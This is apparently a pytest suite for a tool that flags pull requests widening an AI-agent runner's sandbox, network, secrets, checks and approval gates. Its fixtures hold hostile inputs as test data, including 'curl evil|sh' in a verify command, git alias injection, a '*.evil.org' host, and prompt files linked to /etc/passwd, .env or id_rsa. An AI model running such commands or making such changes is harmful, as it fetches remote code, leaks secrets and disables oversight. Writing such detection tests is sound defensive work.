"""What a pull request widens in the settings: two commits of real repositories, without the command."""

from __future__ import annotations

import copy
import tomllib
from collections.abc import Iterator, Mapping
from json import dumps
from pathlib import Path
from typing import Any

import pytest
import tomlkit
from support.work import Work

from runner.config import schema
from runner.config.compile import compile_settings
from runner.config.facts import NARROWS, OTHER, WIDENS
from runner.config.find import ConfigFiles
from runner.config.widening import RULES, SettingChange, Side, changes
from runner.errors import ConfigInvalid, RunnerError, UsageError
from runner.usecases.policy_diff import PolicyDiff, compare, side_of

BASE = """\
schema_version = 1
[defaults]
timeout = "1h"
[defaults.limits]
tokens = 1000
[models.own]
model = "m1"
[sandboxes.build]
level = "workspace-write"
network = ["a.example.org"]
deny_read = ["secrets"]
[runtimes.codex]
env = ["CODEX_API_KEY"]
[tasks.fix]
title = "Fix it"
prompt = "Fix."
sandbox = "build"
scope = ["src/**"]
protect = ["tests/**"]
verify = ["pytest -q", "sh ci/test.sh"]
verify_from = "base"
[tasks.look]
prompt = "Look."
[pipelines.ship]
[[pipelines.ship.stages]]
name = "build"
tasks = ["look"]
gate = { commands = [["make"]], no_findings = "minor", approve = true }
"""


class Changing(Work):
    """A repository of which each `put` is a commit."""

    def put(self, files: Mapping[str, str | None], name: str = "change") -> None:
        for path, text in files.items():
            if text is None:
                self.git("rm", "-q", path)
            else:
                self.write(path, text)
        self.git("add", "-A")
        self.git("commit", "-q", "--allow-empty", "-m", name)

    def compared(
        self,
        base: str = "HEAD~1",
        head: str | None = None,
        *,
        config: str | None = None,
        policy: tuple[str, ...] = (),
    ) -> PolicyDiff:
        env = {"HOME": f"{self.root}.home"}
        return compare(str(self.root), env, (base, head), config, policy)

    def widened(self, text: str, base: str = BASE) -> set[tuple[str, str]]:
        return {(one.rule, one.key) for one in of(self.both(base, text), WIDENS)}

    def both(self, base: str, text: str) -> PolicyDiff:
        self.put({"delegate.toml": base, "ci/test.sh": "make test\n"})
        self.put({"delegate.toml": text})
        return self.compared()


@pytest.fixture
def repo(tmp_path: Path) -> Changing:
    return Changing(tmp_path)


def of(found: PolicyDiff, effect: str) -> list[SettingChange]:
    return [one for one in found.changes if one.effect == effect]


def edited(*pairs: tuple[str, str]) -> str:
    text = BASE
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new, 1)
    return text


HARMLESS_ONES: dict[str, tuple[str, set[tuple[str, str]]]] = {
    "prompt text": (edited(('"Fix."', '"Fix all of it."')), {(OTHER, "tasks.fix.prompt")}),
    "narrower sandbox": (
        edited(('network = ["a.example.org"]', "network = false"), ('["secrets"]', '["secrets", "more"]')),
        {(NARROWS, "sandboxes.build.network"), (NARROWS, "sandboxes.build.deny_read")},
    ),
    "more checks": (
        edited(('"pytest -q", ', '"pytest -q", "make", ')),
        {(NARROWS, "tasks.fix.verify")},
    ),
    "lower budget": (
        edited(('"1h"', '"30m"'), ("tokens = 1000", "tokens = 900")),
        {(NARROWS, "defaults.timeout"), (NARROWS, "defaults.limits.tokens")},
    ),
    "comment and format": (edited(('timeout = "1h"', '# as ever\n  timeout   =   "60m"')), set()),
    "renamed description": (edited(('"Fix it"', '"Repair it"')), {(OTHER, "tasks.fix.title")}),
}
WIDENING: dict[str, tuple[str, str, str, int, tuple[str, ...]]] = {
    "sandbox": (
        edited(('sandbox = "build"', 'sandbox = "danger-full-access"')),
        *("level", "tasks.fix.sandbox", 17, ("fix",)),
    ),
    "network": (
        edited(('network = ["a.example.org"]', "network = true")),
        *("network", "sandboxes.build.network", 10, ("fix",)),
    ),
    "environment": (
        edited(('["CODEX_API_KEY"]', '["CODEX_API_KEY", "AWS_SECRET"]')),
        *("env", "runtimes.codex.env", 13, ()),
    ),
    "server": (
        f'{BASE}[runtimes.codex.config.mcp_servers.x]\ncommand = "y"\n',
        *("mcp", "runtimes.codex.config.mcp_servers.x.command", 30, ()),
    ),
    "check": (
        edited(('"pytest -q", "sh ci/test.sh"', '"pytest -q"')),
        *("check_removed", "tasks.fix.verify", 20, ("fix",)),
    ),
    "budget": (edited(('"1h"', '"none"')), *("budget", "defaults.timeout", 3, ("fix", "look"))),
}


@pytest.mark.parametrize("name", HARMLESS_ONES)
def test_a_harmless_pull_request_widens_nothing_and_is_told_all_the_same(repo: Changing, name: str) -> None:
    text, told = HARMLESS_ONES[name]
    found = repo.both(BASE, text)
    assert {(one.effect, one.key) for one in found.changes} == told
    assert (found.breaches, found.notes) == ((), ())


@pytest.mark.parametrize("name", WIDENING)
def test_a_widening_pull_request_is_told_with_its_line_and_its_tasks(repo: Changing, name: str) -> None:
    text, rule, key, line, tasks = WIDENING[name]
    found = repo.both(BASE, text)
    (one,) = [one for one in of(found, WIDENS) if one.rule == rule]
    assert (one.key, one.line, one.tasks, one.is_gone) == (key, line, tasks, False)
    assert text.splitlines()[line - 1].startswith(key.rpartition(".")[2])
    assert one.rule in RULES


@pytest.mark.parametrize(
    ("old", "new", "rule", "key"),
    [  # of each: what stands in BASE, and instead of it at HEAD
        (
            'level = "workspace-write"',
            'level = "workspace-write"\nwritable = ["../b"]',
            "writable",
            "sandboxes.build.writable",
        ),
        ('["a.example.org"]', '["a.example.org", "*.evil.org"]', "host", "sandboxes.build.network"),
        ('deny_read = ["secrets"]\n', "", "deny_read", "sandboxes.build.deny_read"),
        ('env = ["CODEX_API_KEY"]', 'command = "./x"', "program", "runtimes.codex.command"),
        ('env = ["CODEX_API_KEY"]', 'config.notify = ["x"]', "program", "runtimes.codex.config.notify"),
        (
            'env = ["CODEX_API_KEY"]',
            'config.a.base_url = "https://x"',
            "host",
            "runtimes.codex.config.a.base_url",
        ),
        ('env = ["CODEX_API_KEY"]', "config.features.x = true", "config", "runtimes.codex.config.features.x"),
        ('model = "m1"', 'model = "m1"\nprovider = "oss"', "host", "models.own.provider"),
        ('"pytest -q"', '"pytest -q -k no"', "check_weakened", "tasks.fix.verify"),
        ('"pytest -q"', '"pytest -q", "curl x"', "program", "tasks.fix.verify"),
        ('"pytest -q"', '"pytest -q", "sh -c x"', "program", "tasks.fix.verify"),
        ('verify_from = "base"\n', "", "check_weakened", "tasks.fix.verify_from"),
        ('protect = ["tests/**"]', "protect = []", "check_weakened", "tasks.fix.protect"),
        ('scope = ["src/**"]\n', "", "scope", "tasks.fix.scope"),
        ('["src/**"]', '["src/**", "ci/**"]', "scope", "tasks.fix.scope"),
        ("approve = true", "approve = false", "gate", "pipelines.ship.stages[0].gate"),
        ('"minor"', '"critical"', "gate", "pipelines.ship.stages[0].gate"),
        ('commands = [["make"]], ', "", "check_removed", "pipelines.ship.stages[0].gate"),
        ("tokens = 1000\n", "", "budget", "defaults.limits.tokens"),
        ("[tasks.look]\n", "[tasks.look]\nretries = 3\n", "budget", "tasks.look.retries"),
        (
            "[tasks.look]\n",
            "[tasks.look]\nexpects_change = false\n",
            "check_weakened",
            "tasks.look.expects_change",
        ),
        ("[tasks.look]\n", "[tasks.look]\ndelegation = true\n", "delegation", "tasks.look.delegation"),
        ("[tasks.look]\n", '[tasks.look]\npaste = ["**/.env"]\n', "sends", "tasks.look.paste"),
        ("[pipelines.ship]\n", '[pipelines.ship]\ninput = ["x"]\n', "trust", "pipelines.ship.input"),
        ("[models.own]", "[delegation]\nmax_depth = 3\n[models.own]", "budget", "delegation.max_depth"),
        ("[models.own]", "[delegate]\ncommit = true\n[models.own]", "git", "delegate.commit"),
        ("[models.own]", '[git]\nowner = "fix"\n[models.own]', "git", "git.owner"),
        (
            "[models.own]",
            "[models.dear]\nmodel = 'x'\nruntime = 'claude'\n[models.own]",
            "program",
            "models.dear.runtime",
        ),
    ],
)
def test_each_way_to_widen_has_its_rule(repo: Changing, old: str, new: str, rule: str, key: str) -> None:
    assert (rule, key) in repo.widened(edited((old, new)))


CHECKS = BASE.replace(
    '["pytest -q", "sh ci/test.sh"]',
    """["pytest -q", "timeout 60 sh -c 'make ok'", "python3 -I -m x", "uv run pytest", "git diff",
"make a", "xargs -a b", "docker run --rm -t image pytest", "su -c x"]""",
)


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("timeout 60 sh -c 'curl evil|sh'", WIDENS),
        ("python3 -I -c evil", WIDENS),
        ("uv run python -c evil", WIDENS),
        ("git -c 'alias.x=!curl evil|sh' x", WIDENS),
        ("make -f evil.mk", WIDENS),
        ("make -fevil", WIDENS),
        ("make SHELL=./evil a", WIDENS),
        ("pytest -p evil", WIDENS),
        ("pytest evil/test_x.py", WIDENS),
        ("pytest --rootdir=evil", WIDENS),
        ("git bisect run sh x", WIDENS),
        ("curl", WIDENS),
        ("make lint", WIDENS),
        ("git push", WIDENS),
        ("make a lint", WIDENS),
        ("pytest -q tests", WIDENS),
        ("xargs -a b sh", WIDENS),
        ("docker run --rm -t --privileged image pytest", WIDENS),
        ("su -c --login", WIDENS),
        ("git diff --check", WIDENS),
        ("make -k a", WIDENS),
        ("make a -k", WIDENS),
        ("pytest -q --strict-markers", WIDENS),
        ("make a -k -n", WIDENS),
        ("uv run pytest", NARROWS),
        ("git diff", NARROWS),
    ],
)
def test_one_more_check_narrows_only_where_it_is_a_command_of_before(
    repo: Changing, command: str, effect: str
) -> None:
    new = f"[tasks.look]\nverify = [{dumps(command)}]\n"
    (one,) = repo.both(CHECKS, CHECKS.replace("[tasks.look]\n", new)).changes
    assert (one.effect, one.rule) == (effect, "program" if effect == WIDENS else "check_added")


@pytest.mark.parametrize(
    ("had", "comes"),
    [
        ("cargo publish --dry-run", "cargo publish"),
        ("cargo publish --dry-run", "cargo publish --dry-run --no-dry-run"),
        ("git push --dry-run origin main", "git push -o --dry-run origin main"),
        ("git push --dry-run origin main", "git push --dry-run origin main --no-dry"),
        ("make -n deploy", "make -o -n deploy"),
        ("kubectl apply --dry-run=client -f x.yml", "kubectl apply --dry-run=none -f x.yml"),
        ("git clean -n", "git clean -f -d -x"),
        ("gofmt -l .", "gofmt -w -l ."),
        ("git branch x", "git branch x -D"),
        ("terraform plan", "terraform plan --auto-approve"),
        ("pytest -q tests", "pytest -x -q tests"),
    ],
)
def test_a_command_that_has_other_words_than_any_before_is_new(repo: Changing, had: str, comes: str) -> None:
    base = BASE.replace('["pytest -q", "sh ci/test.sh"]', dumps([had]))
    head = base.replace(dumps([had]), dumps([had, comes]))
    (one,) = repo.both(base, head).changes
    assert (one.rule, one.effect) == ("program", WIDENS)


def test_a_pipeline_under_another_name_tells_no_check_of_its_gates_as_new(repo: Changing) -> None:
    late = BASE.replace(SHIP, LATER)
    assert NARROWS not in {one.effect for one in repo.both(BASE, late).changes if not one.is_gone}
    (one,) = of(repo.both(BASE, late.replace('[["make"]]', '[["make"], ["make", "b"]]')), WIDENS)
    assert (one.rule, one.before, one.after) == ("program", None, "make b")


def test_scripts_that_only_a_shell_can_name_count_with_their_contents(repo: Changing) -> None:
    line = """["bash", "-c", "for t in ci/*.sh; do sh $t; done"]"""
    repo.put({"delegate.toml": BASE.replace('"sh ci/test.sh"', line), "ci/test.sh": "make test\n"})
    repo.put({"ci/test.sh": "exit 0\n", "ci/new.sh": "evil\n", "ci/new.md": "text\n"})
    found = repo.compared()
    assert {(one.rule, one.file) for one in of(found, WIDENS)} == {
        ("script", "ci/test.sh"),
        ("script", "ci/new.sh"),
    }
    assert found.base.trust != found.head.trust


@pytest.mark.parametrize(
    ("old", "new", "is_wider"),
    [
        ('protect = ["conf.d"]', 'protect = ["*.d"]', True),
        ('protect = ["ci/**"]', 'protect = ["ci"]', False),
        ('protect = ["ci/a"]', 'protect = ["./ci/"]', False),
        ('scope = ["*.d"]', 'scope = ["conf.d"]', True),
        ('scope = ["src"]', 'scope = ["src/a"]', False),
        ('scope = ["src/**"]', 'scope = ["src"]', False),
        ('scope = ["src/*"]', 'scope = ["src/a"]', True),
        ('scope = ["src"]', 'scope = ["src2/a"]', True),
        ('scope = ["."]', 'scope = ["src/*.py"]', False),
    ],
)
def test_globs_are_compared_as_they_match(repo: Changing, old: str, new: str, is_wider: bool) -> None:
    base = '[tasks.x]\nprompt = "x"\n'
    assert bool(repo.widened(f"{base}{new}\n", f"{base}{old}\n")) is is_wider


EXECUTED = """\
[executors.e]
kind = "slurm"
partition = "p"
cpus = 4
memory = "8G"
time = "1h"
max_running = 4
requeue = false
[executors.f]
kind = "slurm"
[executors.s]
kind = "ssh"
hosts = ["a"]
slots = 2
[tasks.x]
prompt = "x"
executor = "e"
[tasks.y]
prompt = "y"
"""


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("cpus = 4", "cpus = 8", (WIDENS, "budget", "executors.e.cpus")),
        ("cpus = 4", "cpus = 2", (NARROWS, "budget", "executors.e.cpus")),
        ('memory = "8G"', 'memory = "8192M"', (NARROWS, "budget", "executors.e.memory")),
        ('memory = "8G"', 'memory = "1T"', (WIDENS, "budget", "executors.e.memory")),
        ('memory = "8G"\n', "", (WIDENS, "budget", "executors.e.memory")),
        ('time = "1h"', 'time = "30m"', (NARROWS, "budget", "executors.e.time")),
        ('time = "1h"', 'time = "2h"', (WIDENS, "budget", "executors.e.time")),
        ('time = "1h"', 'time = "task"', (WIDENS, "budget", "executors.e.time")),
        ("max_running = 4\n", "", (WIDENS, "budget", "executors.e.max_running")),
        ("slots = 2", "slots = 3", (WIDENS, "budget", "executors.s.slots")),
        ("slots = 2", "slots = 1", (NARROWS, "budget", "executors.s.slots")),
        ('hosts = ["a"]', 'hosts = ["b"]', (WIDENS, "executor", "executors.s.hosts")),
        ("requeue = false", "requeue = true", (WIDENS, "budget", "executors.e.requeue")),
        ('partition = "p"', 'partition = "q"', (WIDENS, "executor", "executors.e.partition")),
        ("cpus = 4", 'cpus = 4\naccount = "a"', (WIDENS, "executor", "executors.e.account")),
        ("cpus = 4", "cpus = 4\noptions.exclusive = true", (WIDENS, "executor", "executors.e.options")),
        ("cpus = 4", 'cpus = 4\nmax_pending = "1h"', (OTHER, OTHER, "executors.e.max_pending")),
        ('executor = "e"\n', "", (NARROWS, "executor", "tasks.x.executor")),
        ('executor = "e"', 'executor = "local"', (NARROWS, "executor", "tasks.x.executor")),
        ('executor = "e"', 'executor = "f"', (WIDENS, "executor", "tasks.x.executor")),
        ('prompt = "y"', 'prompt = "y"\nexecutor = "e"', (WIDENS, "executor", "tasks.y.executor")),
        ('prompt = "y"', 'prompt = "y"\nexecutor = "local"', None),
        ("[tasks.y]", '[executors.g]\nkind = "slurm"\n[tasks.y]', (OTHER, "new", "executors.g")),
    ],
)
def test_where_runs_may_live_and_what_they_get_there_is_compared(
    repo: Changing, old: str, new: str, told: tuple[str, str, str] | None
) -> None:
    found = repo.both(EXECUTED, EXECUTED.replace(old, new, 1)).changes
    assert [(one.effect, one.rule, one.key) for one in found] == [told] * (told is not None)


@pytest.mark.parametrize(
    ("old", "new", "is_wider"),
    [
        ('network = ["*.a.org"]', 'network = ["b.c.a.org", "*.c.a.org"]', False),
        ('network = ["*.a.org"]', 'network = ["a.org"]', True),
        ('network = ["a.org"]', 'network = ["b.a.org"]', True),
        ('deny_read = ["/w/a"]', 'deny_read = ["/w"]', False),
        ('deny_read = ["/w"]', 'deny_read = ["/w/a"]', True),
        ('writable = ["/w/a"]', 'writable = ["/w/a/b"]', False),
        ('writable = ["/w/a"]', 'writable = ["/w/ab"]', True),
    ],
)
def test_hosts_and_folders_are_compared_as_they_are_meant(
    repo: Changing, old: str, new: str, is_wider: bool
) -> None:
    base = '[tasks.x]\nprompt = "x"\nsandbox = "s"\n[sandboxes.s]\nlevel = "workspace-write"\n'
    assert bool(repo.widened(f"{base}{new}\n", f"{base}{old}\n")) is is_wider


SHIP, LATER = "[pipelines.ship]\n[[pipelines.ship.stages]]", "[pipelines.late]\n[[pipelines.late.stages]]"
GATE = 'gate = { commands = [["make"]], no_findings = "minor", approve = true }\n'


def test_a_pipeline_that_goes_on_under_another_name_keeps_its_gates_or_is_told(repo: Changing) -> None:
    told = ("gate", "pipelines.ship.build")
    assert told in repo.widened(edited((SHIP, LATER), (GATE, "")))
    assert told in repo.widened(edited((SHIP, LATER), ("approve = true", "approve = false")))
    assert told in repo.widened(edited((SHIP, LATER), ('name = "build"', 'name = "other"')))
    assert told in repo.widened(
        edited((SHIP, LATER), (GATE, f'{GATE}repair = {{ task = "fix", severity = "minor" }}\n'))
    )
    assert told not in repo.widened(edited((SHIP, LATER)))
    assert not repo.widened(BASE[: BASE.index("[pipelines")]), "the whole of it is gone"
    without = edited((GATE, 'gate = { commands = [["make"]], no_findings = "minor" }\n'))
    assert not repo.widened(BASE, without), "one more person has to approve"


PERSON = """\
[[pipelines.ship.stages]]
name = "signed"
person = true
gate = "approve"
"""


def test_a_stage_that_is_new_widens_unless_it_only_waits_for_a_person(repo: Changing) -> None:
    def gates(text: str, base: str = BASE) -> set[str]:
        return {key for rule, key in repo.widened(text, base) if rule == "gate"}

    more = PERSON.replace('person = true\ngate = "approve"', 'needs = []\ntasks = ["fix"]')
    assert gates(BASE + PERSON) == set()
    assert gates(BASE + more) == {"pipelines.ship.signed"}
    assert gates(BASE + more.replace("ship", "new")) == {"pipelines.new.signed"}
    gone = BASE + more.replace("ship", "late")
    assert gates(BASE + more, gone) == {"pipelines.ship.signed"}, (
        "from another pipeline, behind a person here"
    )
    assert gates(BASE + more.replace("ship", "new"), gone) == set(), "all that there was, by another name"
    both = "".join(more.replace("ship", name) for name in ("nightly", "release"))
    assert len(gates(BASE + both, gone)) == 1, "two, where one was"
    whole = BASE[BASE.index("[pipelines") :].replace("ship", "new") + more.replace("ship", "new")
    alone = gone[: gone.index("[pipelines")] + whole
    assert gates(alone + more, alone) == {"pipelines.ship.signed"}, "that goes on"
    both = alone.replace("new", "most") + more.replace("ship", "also")
    assert gates(both, alone) == {"pipelines.also.signed"}, "the one that has most of it stands for it"
    moved = gates(BASE + more.replace("ship", "new"), BASE + more)
    assert moved == {"pipelines.new.signed", "pipelines.ship.signed"}, "out of one that goes on"
    first = BASE[: BASE.index("[[pipelines")] + PERSON + BASE[BASE.index("[[pipelines") :]
    assert gates(BASE + PERSON, first) == {"pipelines.ship.stages[0]", "pipelines.ship.stages[1]"}, (
        "the order"
    )


def test_what_a_stage_does_not_say_is_compared_as_it_is_carried_out(repo: Changing) -> None:
    said = 'repair = { task = "fix" }\n'
    base = edited(('"minor", approve = true }\n', f'"critical" }}\n{said}'))
    whole = 'repair = { task = "fix", severity = "critical", max_rounds = 3 }\nneeds = []\n'
    assert repo.both(base, base.replace(said, whole)).changes == ()
    fewer = repo.both(base, base.replace(said, whole.replace("3", "2"))).changes
    assert [(one.effect, one.rule) for one in fewer] == [(NARROWS, "budget")]
    assert {rule for rule, _ in repo.widened(base.replace(said, whole.replace("3", "4")), base)} == {"budget"}
    more = base.replace(said, whole.replace("3", "4")).replace(SHIP, LATER)
    assert repo.widened(more, base) == {("gate", "pipelines.ship.build")}, "under another name too"
    lesser = whole.replace('"critical"', '"minor"')
    assert {rule for rule, _ in repo.widened(base.replace(said, lesser), base)} == {"gate"}


def test_a_task_that_goes_on_under_another_name_keeps_all_that_held_it_or_is_told(repo: Changing) -> None:
    held = 'workspace = "worktree"\nretries = 0\n'
    base = f'[defaults]\nsandbox = "workspace-write"\nretries = 3\n[tasks.a]\nprompt = "x"\n{held}'
    held_too = 'sandbox = "read-only"\n'
    renamed = f"{base}{held_too}".replace("[tasks.a]", "[tasks.b]")
    assert not repo.widened(renamed, base + held_too)
    assert {rule for rule, _ in repo.widened(renamed.replace(held, ""), base + held_too)} == {
        "gate",
        "budget",
    }
    assert repo.widened(renamed.replace(held_too, ""), base + held_too) == {("level", "tasks.a")}


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ('codex.config.shell_environment_policy.inherit = "core"', "program"),
        ("codex.config.projects.\"/w\".trust_level = 'untrusted'", "program"),
        ("codex.config.mcp_servers.x.enabled = false", "mcp"),
        ('codex.command = "tools/confined-codex"', "program"),
        ('codex.version = ">=0.171"', "program"),
        ('acp.args = ["--acp", "--approval-mode", "plan"]', "program"),
        ('kay.provider = "oss"', "host"),
    ],
)
def test_what_may_have_confined_an_agent_widens_where_it_is_taken_away(
    repo: Changing, line: str, rule: str
) -> None:
    base = '[tasks.x]\nprompt = "x"\n[runtimes]\n'
    assert rule in {one for one, _ in repo.widened(base, f"{base}{line}\n")}


def test_keys_of_an_agent_do_not_hide_each_other(repo: Changing) -> None:
    base = '[runtimes.codex.config.mcp_servers.x.env]\ncommand = "evil"\n'
    other = '[runtimes.codex.config.mcp_servers."x.env"]\ncommand = "evil"\n'
    key = 'runtimes.codex.config.mcp_servers."x.env".command'
    assert ("mcp", key) in repo.widened(base + other, base)
    quoted = '[runtimes.codex.config]\n"mcp_servers.x.command" = "evil"\n'
    assert {rule for rule, _ in repo.widened(quoted, "")} == {"mcp"}


def test_a_server_of_gemini_is_one_too(repo: Changing) -> None:
    server = '[runtimes.gemini.config.mcpServers.x]\nhttpUrl = "https://a.org"\n'
    assert {rule for rule, _ in repo.widened(server, "")} == {"mcp"}
    assert {(one.effect, one.rule) for one in repo.both(server, "").changes} == {(NARROWS, "mcp")}


def test_a_new_model_of_another_provider_is_told_though_no_task_names_it(repo: Changing) -> None:
    new = '[models.m]\nmodel = "m"\n'
    assert not repo.widened(BASE + new)
    assert repo.widened(f'{BASE}{new}provider = "oss"\n') == {("host", "models.m.provider")}


@pytest.mark.parametrize(
    ("new", "is_wider"),
    [
        (">=0.172", False),
        (">=0.171,<2", False),
        (">=0", True),
        ("<2", True),
        ("==0.171", False),
        ("<=0.171", True),
    ],
)
def test_a_range_of_versions_that_gets_wider_is_told(repo: Changing, new: str, is_wider: bool) -> None:
    base = '[tasks.x]\nprompt = "x"\n[runtimes.codex]\nversion = ">=0.171"\n'
    told = repo.widened(base.replace(">=0.171", new), base)
    assert told == ({("program", "runtimes.codex.version")} if is_wider else set())


def test_a_price_that_lets_more_through_is_a_budget_and_any_other_is_not(repo: Changing) -> None:
    base = BASE.replace('"m1"', '"m1"\nprice = { input = 1, cached = 1, output = 1 }')
    told = {
        text: [(one.effect, one.rule) for one in repo.both(base, base.replace(price, text)).changes]
        for price in ("price = { input = 1, cached = 1, output = 1 }",)
        for text in (
            "",
            price.replace("cached = 1", "cached = 0.5"),
            price.replace("cached = 1", "cached = 2"),
        )
    }
    assert [*told.values()] == [[(WIDENS, "budget")], [(WIDENS, "budget")], [(OTHER, "budget")]]


@pytest.mark.parametrize(("old", "new"), [("0", "false"), ("1", "true"), ("[1]", "[true]"), ('"1"', "1")])
def test_a_value_of_another_type_is_another_value(repo: Changing, old: str, new: str) -> None:
    base = f"[runtimes.codex.config]\nfeatures.x = {old}\n"
    assert {rule for rule, _ in repo.widened(base.replace(old, new), base)} == {"config"}


HARMLESS_WITH_A_NUMBER = (
    ("[tasks.look]\n", "[tasks.look]\nlimits = { warn_at = 0.5 }\n"),
    ("[models.own]", "[runtimes.acp]\npermission_timeout = '9h'\n[models.own]"),
    ("[models.own]", "[models.new]\nruntime = 'codex'\nmodel = 'x'\n[models.own]"),
)


@pytest.mark.parametrize("pair", HARMLESS_WITH_A_NUMBER)
def test_what_lets_no_run_do_more_widens_nothing(repo: Changing, pair: tuple[str, str]) -> None:
    assert not repo.widened(edited(pair))


def test_what_was_taken_from_the_settings_of_an_agent_narrows_only_as_a_whole(repo: Changing) -> None:
    server = '[runtimes.codex.config.mcp_servers.x]\ncommand = "y"\nenabled = false\n'
    usual = '[runtimes.codex.config]\nmodel_verbosity = "low"\n'
    told = {
        text: {(one.effect, one.rule) for one in repo.both(BASE + server + usual, text).changes}
        for text in (BASE + server, BASE + usual, BASE + usual + server.replace("enabled = false\n", ""))
    }
    assert [*told.values()] == [{(OTHER, OTHER)}, {(NARROWS, "mcp")}, {(WIDENS, "mcp")}]


def test_what_is_taken_away_is_told_at_its_line_at_base(repo: Changing) -> None:
    (one,) = of(repo.both(BASE, edited(('verify_from = "base"\n', ""))), WIDENS)
    assert (one.key, one.line, one.is_gone, one.before, one.after) == (
        "tasks.fix.verify_from",
        21,
        True,
        "base",
        "run",
    )
    text = edited(('deny_read = ["secrets"]\n', ""))
    (one,) = of(repo.both(BASE, text), WIDENS)
    assert one.is_gone and one.before and one.before.endswith("/secrets") and one.after is None


def test_a_new_task_is_compared_with_what_the_defaults_would_give(repo: Changing) -> None:
    new = '[tasks.new]\nprompt = "x"\ntimeout = "30m"\n'
    found = repo.both(BASE, BASE + new)
    assert not of(found, WIDENS) and ("new", "tasks.new") in {(one.rule, one.key) for one in found.changes}
    found = repo.both(BASE, BASE + new + 'sandbox = "danger-full-access"\n')
    assert {(one.rule, one.tasks) for one in of(found, WIDENS)} == {
        ("level", ("new",)),
        ("network", ("new",)),
    }


def test_a_task_that_goes_on_under_another_name_without_its_checks_is_told(repo: Changing) -> None:
    text = edited(("[tasks.fix]", "[tasks.fixed]"), ('["pytest -q", "sh ci/test.sh"]', "[]"))
    assert ("check_removed", "tasks.fix") in repo.widened(text)
    gone = BASE[: BASE.index("[tasks.fix]")] + BASE[BASE.index("[tasks.look]") :]
    assert [(one.effect, one.key) for one in repo.both(BASE, gone).changes] == [(NARROWS, "tasks.fix")]


def test_a_script_that_is_run_counts_with_its_content(repo: Changing) -> None:
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({"ci/test.sh": "exit 0\n"})
    found = repo.compared()
    ((one),) = of(found, WIDENS)
    assert (one.rule, one.file, one.line) == ("script", "ci/test.sh", None)
    assert found.base.trust != found.head.trust


def test_a_script_that_is_no_longer_in_the_commit_is_told_with_the_way_out(repo: Changing) -> None:
    def told() -> list[tuple[str, str | None]]:
        return [(one.rule, one.after) for one in of(repo.compared(), WIDENS)]

    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({"ci/test.sh": None})
    assert told() == [("script", "none")]
    for target in ("node_modules/a", "node_modules/b"):
        if (repo.root / "ci").is_symlink():
            repo.remove("ci")
        repo.link("ci", target)
        repo.put({})
        assert told() == [("script", f"none: ci is a link to {target}")]
    repo.git("rm", "-q", "ci")
    names = "1" * 40, "2" * 40
    for name in names:
        repo.git("update-index", "--add", "--cacheinfo", f"160000,{name},ci")
        repo.git("commit", "-q", "-m", "submodule")
        assert told() == [("script", f"none: ci is a submodule at {name}")]
    assert {one.before for one in repo.compared().changes} == {f"none: ci is a submodule at {names[0]}"}


@pytest.mark.parametrize(
    ("target", "told"),
    [
        ("../.env", "prompts/fix.md is a link to ../.env"),
        ("/etc/passwd", "prompts/fix.md is a link to /etc/passwd"),
        ("../ci/test.sh", None),
        ("../secrets/key", "leads to secrets/key, which is kept from the agent by its sandbox"),
        ("../id_rsa", "leads to id_rsa, which may have secrets"),
    ],
)
def test_a_prompt_that_becomes_a_link_to_what_is_kept_back_is_told(
    repo: Changing, target: str, told: str | None
) -> None:
    text = BASE.replace('prompt = "Fix."', 'prompt_file = "prompts/fix.md"')
    files = {"delegate.toml": text, "ci/test.sh": "make test\n", "prompts/fix.md": "Fix.\n", "id_rsa": "x\n"}
    repo.put({**files, "secrets/key": "x\n"})
    repo.remove("prompts/fix.md")
    repo.link("prompts/fix.md", target)
    repo.put({})
    found = [(one.rule, one.file, one.after) for one in of(repo.compared(), WIDENS)]
    assert found == ([("sends", "prompts/fix.md", told)] if told else [])


def test_a_check_that_is_played_too_is_a_check(repo: Changing) -> None:
    played = BASE + '[tasks.play]\nprompt = "x"\nrehearse = "ci/test.sh"\n'
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({"delegate.toml": played, "ci/test.sh": "exit 0\n"})
    assert ("script", "ci/test.sh") in {(one.rule, one.file) for one in of(repo.compared(), WIDENS)}


def test_a_plan_that_a_new_stage_names_is_told_with_its_content(repo: Changing) -> None:
    plan = '[[pipelines.ship.stages]]\nname = "do"\nplan = "p.md"\ntask = "fix"\n'
    repo.put({"delegate.toml": BASE, "ci/test.sh": "make test\n"})
    repo.put({"delegate.toml": BASE + plan, "p.md": "a\n"})
    assert {("gate", None), ("script", "p.md")} == {
        (one.rule, one.file) for one in of(repo.compared(), WIDENS)
    }


def test_a_plan_that_a_stage_names_counts_with_its_content(repo: Changing) -> None:
    stages = """\
[[pipelines.ship.stages]]
name = "do"
plan = "docs/./plan.md"
task = "fix"
[[pipelines.ship.stages]]
name = "more"
plan = "docs/{name}.md"
task = "fix"
"""
    text = BASE.replace("[pipelines.ship]\n", '[pipelines.ship]\ninput = ["name"]\n') + stages
    repo.put({"delegate.toml": text, "docs/plan.md": "a\n", "ci/test.sh": "make test\n"})
    repo.put({"docs/plan.md": "b\n", "docs/other.md": "b\n"})
    found = repo.compared()
    assert [(one.effect, one.rule, one.file) for one in found.changes] == [(WIDENS, "script", "docs/plan.md")]
    assert found.base.trust == found.head.trust, "no start asks for it"


def test_the_digest_is_the_one_that_runner_trust_tells(repo: Changing) -> None:
    from runner.config.compile import compile_settings
    from runner.config.find import find
    from runner.config.snapshot import config_from_json
    from runner.usecases.trust import demanded

    repo.put({"delegate.toml": BASE, "ci/real.sh": "make test\n"})
    repo.link("ci/test.sh", "real.sh")
    repo.put({})
    env = {"HOME": f"{repo.root}.home"}
    done = compile_settings(find(str(repo.root), None, env, "/none"), {}, ())
    assert done.config is not None
    assert repo.compared("HEAD").head.trust == demanded(config_from_json(done.config), env).digest


def test_hosts_and_folders_that_were_covered_before_are_no_widening(repo: Changing) -> None:
    base = BASE.replace('["a.example.org"]', '["*.example.org"]')
    assert not of(repo.both(base, base.replace('["*.ex', '["b.example.org", "*.ex')), WIDENS)
    assert not repo.widened(BASE.replace('"src/**"', '"src/a/**"'))
    assert repo.widened(BASE.replace('"src/**"', '"a/x.py"'), BASE.replace('"src/**"', '"*.py"'))


def test_a_file_that_is_no_longer_kept_out_of_the_prompt_is_a_widening(repo: Changing) -> None:
